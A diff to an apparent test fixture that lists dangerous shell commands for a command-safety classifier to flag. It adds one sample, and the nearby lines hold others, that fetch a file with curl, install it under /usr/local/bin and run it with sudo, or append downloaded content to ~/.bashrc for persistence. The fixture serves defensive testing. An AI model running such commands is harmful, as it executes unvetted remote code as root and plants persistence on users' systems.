@@ -371,6 +371,11 @@ export const DANGEROUS: readonly DangerousSample[] = [
     text: `sudo curl -so /usr/local/bin/fix ${U} && sudo fix`,
   },
   { family: 'file-writes', rule: 'persistence', text: `curl -s ${U} >> ~/.bashrc` },
+  {
+    family: 'file-writes',
+    rule: 'run-downloaded',
+    text: `curl -fsSL ${U} | sudo tee /usr/local/bin/fixit > /dev/null\nsudo chmod +x /usr/local/bin/fixit\nsudo fixit`,
+  },
 ]
 
 /** One legitimate sample; `verdict` is what it must get (never `dangerous`). */
